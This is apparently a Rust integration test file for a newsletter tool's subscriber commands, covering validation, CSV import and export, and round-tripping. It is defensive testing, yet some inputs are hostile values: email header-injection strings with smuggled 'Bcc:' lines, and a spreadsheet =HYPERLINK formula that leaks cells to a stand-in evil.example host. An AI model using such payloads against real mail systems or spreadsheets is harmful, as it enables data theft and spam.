//! `gazette subscribers …` end to end: add, list, remove, import, export.

mod common;

use common::{Site, expect_code, stderr, stdout};
use serde_json::Value;

fn list_json(site: &Site, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["--json", "subscribers", "list"];
    all.extend_from_slice(args);
    let out = site.gazette(&all);
    expect_code(&out, 0);
    match serde_json::from_str(&stdout(&out)).unwrap() {
        Value::Array(a) => a,
        v => panic!("not an array: {v}"),
    }
}

/// (email, name, status) of every subscriber, in sign-up order.
fn listed(site: &Site) -> Vec<(String, Option<String>, String)> {
    list_json(site, &[])
        .into_iter()
        .map(|s| {
            (
                s["email"].as_str().unwrap().to_string(),
                s["name"].as_str().map(str::to_string),
                s["status"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn sub(email: &str, name: Option<&str>, status: &str) -> (String, Option<String>, String) {
    (
        email.to_string(),
        name.map(str::to_string),
        status.to_string(),
    )
}

#[test]
fn add_list_and_remove() {
    let site = Site::empty();
    let out = site.gazette(&["subscribers", "list"]);
    expect_code(&out, 0);
    assert_eq!(stdout(&out), "No subscribers.\n");
    assert!(!site.path("gazette.db").exists(), "listing creates nothing");

    let out = site.gazette(&["subscribers", "add", "Ann@Example.ORG", "--name", "Ann Lee"]);
    expect_code(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains(
            "Added Ann@example.org (Ann Lee) as pending: they get no mail until they confirm"
        ),
        "{text}"
    );
    assert!(
        text.contains("Confirmation link: https://news.example.org/ledger/confirm/"),
        "{text}"
    );

    site.says(
        &["subscribers", "add", "bob@example.org", "--confirmed"],
        0,
        "Added bob@example.org as active",
    );

    // Case-insensitive: the same subscriber, left as is.
    site.says(
        &["subscribers", "add", "ann@example.org", "--confirmed"],
        0,
        "already on the list (pending since",
    );

    assert_eq!(
        listed(&site),
        vec![
            sub("Ann@example.org", Some("Ann Lee"), "pending"),
            sub("bob@example.org", None, "active"),
        ]
    );
    let active = list_json(&site, &["--status", "active"]);
    assert_eq!(active.len(), 1);
    assert_eq!(active[0]["email"], "bob@example.org");
    assert!(active[0].get("token").is_none(), "tokens stay secret");

    let out = site.gazette(&["subscribers", "list"]);
    expect_code(&out, 0);
    let table = stdout(&out);
    assert!(table.starts_with("STATUS "), "{table}");
    assert!(table.contains("Ann@example.org  Ann Lee"), "{table}");
    assert!(
        table.ends_with("2 subscribers: 1 pending, 1 active.\n"),
        "{table}"
    );

    let out = site.gazette(&["subscribers", "remove", "ANN@example.org"]);
    expect_code(&out, 0);
    assert!(
        stdout(&out).starts_with("Removed Ann@example.org (Ann Lee): unsubscribed"),
        "{}",
        stdout(&out)
    );
    site.says(
        &["subscribers", "remove", "ann@example.org"],
        0,
        "already unsubscribed",
    );
    assert_eq!(
        listed(&site),
        vec![
            sub("Ann@example.org", Some("Ann Lee"), "unsubscribed"),
            sub("bob@example.org", None, "active"),
        ],
        "removing keeps the record"
    );
    let unsub = list_json(&site, &["--status", "unsubscribed"]);
    assert!(unsub[0]["unsubscribed_at"].is_string());
}

#[test]
fn bad_input_exits_1_and_bad_usage_exits_2() {
    let site = Site::empty();
    site.says_on_stderr(
        &["subscribers", "remove", "nobody@example.org"],
        1,
        "nobody@example.org is not on the list",
    );
    site.gazette(&["subscribers", "add", "ann@example.org"]);
    let out = site.gazette(&["subscribers", "remove", "nobody@example.org"]);
    expect_code(&out, 1);
    assert_eq!(
        stderr(&out),
        "error: nobody@example.org is not on the list\n"
    );

    for (args, want) in [
        (
            vec!["subscribers", "add", "ann.example.org"],
            "invalid address \"ann.example.org\": missing @",
        ),
        (
            vec![
                "subscribers",
                "add",
                "ann@example.org\r\nBcc: all@example.org",
            ],
            "contains a line break",
        ),
        (
            vec![
                "subscribers",
                "add",
                "cat@example.org",
                "--name",
                "Cat\nBcc: x@example.org",
            ],
            "invalid name \"Cat\\nBcc: x@example.org\": contains a line break",
        ),
        (
            vec!["subscribers", "remove", "not an address"],
            "contains whitespace",
        ),
    ] {
        let out = site.gazette(&args);
        expect_code(&out, 1);
        assert!(stderr(&out).contains(want), "{args:?}: {}", stderr(&out));
    }
    assert_eq!(listed(&site).len(), 1);

    let out = site.gazette(&["subscribers", "list", "--status", "gone"]);
    expect_code(&out, 2);
    let out = site.gazette(&["subscribers", "add"]);
    expect_code(&out, 2);
}

#[test]
fn import_reports_each_bad_row_and_imports_the_good_ones() {
    let site = Site::empty();
    site.gazette(&["subscribers", "add", "kept@example.org", "--name", "Kept"]);
    site.write(
        "subs.csv",
        "\u{feff}Name,EMAIL,status,phone\r\n\
         Ann Lee,ann@example.org,active,1\r\n\
         Bob,bob@example,active,2\r\n\
         \"Cat\r\nBcc: x@example.org\",cat@example.org,,3\r\n\
         Dan,dan@example.org,deleted,4\r\n\
         \"Lee, Eve \"\"E\"\"\",eve@example.org,pending,5\r\n\
         Ann again,ANN@Example.org,active,6\r\n\
         Kept,KEPT@example.org,active,7\r\n\
         \r\n\
         Fay,\"fay@example.org\r\n\",active,8\r\n\
         Gus,gus@example.org\r\n\
         Zoë Álvarez,zoe@BÜCHER.example,,10\r\n\
         Zoë,zoë@bücher.example,,11\r\n",
    );
    let out = site.gazette(&["subscribers", "import", "subs.csv"]);
    expect_code(&out, 1);
    assert_eq!(
        stderr(&out),
        "subs.csv:1: warning: ignoring a column gazette does not use: \"phone\"\n\
         subs.csv:3: invalid address \"bob@example\": the domain \"example\" has no dot\n\
         subs.csv:4: invalid name \"Cat\\r\\nBcc: x@example.org\": contains a line break\n\
         subs.csv:6: bad status \"deleted\" (expected pending, active, unsubscribed or bounced)\n\
         subs.csv:8: duplicate of line 2 (ANN@example.org)\n\
         subs.csv:15: invalid address \"zoë@bücher.example\": the part before the @ is not ASCII; such an address needs SMTPUTF8, which this publication does not use (mail.smtputf8 is off)\n"
    );
    assert_eq!(
        stdout(&out),
        "subs.csv: imported 5, already subscribed 1 (left as is), skipped 5 (listed above).\n"
    );
    assert_eq!(
        listed(&site),
        vec![
            sub("kept@example.org", Some("Kept"), "pending"),
            sub("ann@example.org", Some("Ann Lee"), "active"),
            sub("eve@example.org", Some("Lee, Eve \"E\""), "pending"),
            sub("fay@example.org", Some("Fay"), "active"),
            sub("gus@example.org", Some("Gus"), "active"),
            sub("zoe@bücher.example", Some("Zoë Álvarez"), "active"),
        ]
    );

    // Again: everything good is already there; the bad rows are still reported.
    let out = site.gazette(&["--json", "subscribers", "import", "subs.csv"]);
    expect_code(&out, 1);
    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(v["imported"], 0);
    assert_eq!(v["already_subscribed"], 6);
    assert_eq!(v["skipped"].as_array().unwrap().len(), 5);
    assert_eq!(v["skipped"][0]["line"], 3);
}

#[test]
fn a_file_that_cannot_be_read_imports_nothing() {
    let site = Site::empty();
    let mut latin1 = b"email,name\nann@example.org,Ann\nbob@example.org,Jos".to_vec();
    latin1.push(0xE9);
    latin1.push(b'\n');
    std::fs::write(site.path("latin1.csv"), latin1).unwrap();
    let out = site.gazette(&["subscribers", "import", "latin1.csv"]);
    expect_code(&out, 1);
    assert!(
        stderr(&out).starts_with("error: latin1.csv:3: byte 0xE9 is not UTF-8"),
        "{}",
        stderr(&out)
    );

    site.write("noheader.csv", "ann@example.org,Ann\n");
    site.says_on_stderr(
        &["subscribers", "import", "noheader.csv"],
        1,
        "noheader.csv:1: the header has no `email` column",
    );

    site.says_on_stderr(
        &["subscribers", "import", "missing.csv"],
        1,
        "cannot read missing.csv",
    );
    assert!(
        !site.path("gazette.db").exists(),
        "a file that cannot be imported creates no database"
    );
    assert_eq!(listed(&site), vec![]);
}

#[test]
fn the_repository_sample_imports_cleanly() {
    let site = Site::empty();
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/sample/subscribers.csv");
    let out = site.gazette(&["subscribers", "import", sample]);
    expect_code(&out, 0);
    assert_eq!(stderr(&out), "");
    assert!(
        stdout(&out).ends_with("imported 5, already subscribed 0 (left as is), skipped 0.\n"),
        "{}",
        stdout(&out)
    );
    let names: Vec<_> = listed(&site).into_iter().filter_map(|s| s.1).collect();
    assert!(names.contains(&"Zoë Álvarez".to_string()), "{names:?}");
}

#[test]
fn export_then_import_into_a_fresh_site_gives_the_same_list() {
    let site = Site::empty();
    let out = site.gazette(&["subscribers", "export"]);
    expect_code(&out, 0);
    assert_eq!(stdout(&out), "email,name,status\n");
    assert!(
        !site.path("gazette.db").exists(),
        "exporting creates nothing"
    );

    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/sample/subscribers.csv");
    expect_code(&site.gazette(&["subscribers", "import", sample]), 0);
    expect_code(
        &site.gazette(&[
            "subscribers",
            "add",
            "Quote@Example.org",
            "--name",
            "\"Q\", Esq.",
        ]),
        0,
    );
    expect_code(
        &site.gazette(&["subscribers", "remove", "ada.byron@example.org"]),
        0,
    );

    let out = site.gazette(&["subscribers", "export", "--out", "list.csv"]);
    expect_code(&out, 0);
    assert_eq!(stdout(&out), "Exported 6 subscribers to list.csv.\n");
    let exported = site.read("list.csv");
    assert_eq!(
        exported,
        "email,name,status\n\
         ada.byron@example.org,Ada Byron,unsubscribed\n\
         zoe.alvarez@example.net,Zoë Álvarez,active\n\
         kwame.mensah@example.org,Kwame Mensah,active\n\
         li.wei@example.net,\"Li, Wei\",pending\n\
         old.reader@example.org,,unsubscribed\n\
         Quote@example.org,\"\"\"Q\"\", Esq.\",pending\n"
    );

    imports_back_exactly(&site, &exported);
}

/// `exported` (an export of `site`), imported into a fresh site, gives the
/// same list, and that site exports the same text again. Returns the fresh site.
fn imports_back_exactly(site: &Site, exported: &str) -> Site {
    let fresh = Site::empty();
    fresh.write("list.csv", exported);
    expect_code(&fresh.gazette(&["subscribers", "import", "list.csv"]), 0);
    assert_eq!(listed(&fresh), listed(site));
    let again = fresh.gazette(&["subscribers", "export"]);
    expect_code(&again, 0);
    assert_eq!(stdout(&again), exported);
    fresh
}

/// A name a spreadsheet would run as a formula (here one that leaks other
/// cells to a web site) is exported as text, even while pending, and comes
/// back exactly on import.
#[test]
fn an_export_neutralises_formulas_and_imports_back_exactly() {
    let site = Site::empty();
    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A2&B3,\"Open\")";
    for (email, name) in [
        ("ann@example.org", evil),
        ("bob@example.org", "'=already quoted"),
        ("cy@example.org", "'Tis Cy"),
    ] {
        expect_code(
            &site.gazette(&["subscribers", "add", email, "--name", name]),
            0,
        );
    }
    let out = site.gazette(&["subscribers", "export"]);
    expect_code(&out, 0);
    assert_eq!(
        stdout(&out),
        "email,name,status\n\
         ann@example.org,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2&B3,\"\"Open\"\")\",pending\n\
         bob@example.org,''=already quoted,pending\n\
         cy@example.org,'Tis Cy,pending\n"
    );
    let fresh = imports_back_exactly(&site, &stdout(&out));
    assert_eq!(listed(&fresh)[0].1.as_deref(), Some(evil));
}

/// A runaway field (an unclosed quote, or a hostile file) is neither echoed
/// whole to stderr nor imported.
#[test]
fn a_huge_csv_field_is_not_echoed() {
    let site = Site::empty();
    let huge = "x".repeat(30 << 20);
    // A huge address on a row of its own: that row is skipped, the next imported.
    site.write(
        "big.csv",
        &format!("email,name\n{huge}@example.org,Cy\nbob@example.org,Bob\n"),
    );
    let out = site.gazette(&["subscribers", "import", "big.csv"]);
    expect_code(&out, 1);
    let err = stderr(&out);
    assert!(err.len() < 1000, "{} bytes of stderr", err.len());
    assert!(err.contains("big.csv:2: a row of "), "{err}");
    assert_eq!(
        listed(&site),
        vec![sub("bob@example.org", Some("Bob"), "active")]
    );
    // An unclosed quote swallows the rest of the file into one field.
    site.write(
        "quote.csv",
        &format!("email,name\nann@example.org,\"Ann\n{huge}\ncy@example.org,Cy\n"),
    );
    let out = site.gazette(&["subscribers", "import", "quote.csv"]);
    expect_code(&out, 1);
    let err = stderr(&out);
    assert!(err.len() < 1000, "{} bytes of stderr", err.len());
    assert!(err.contains("quote.csv:2: a row of "), "{err}");
    assert_eq!(listed(&site).len(), 1);
}
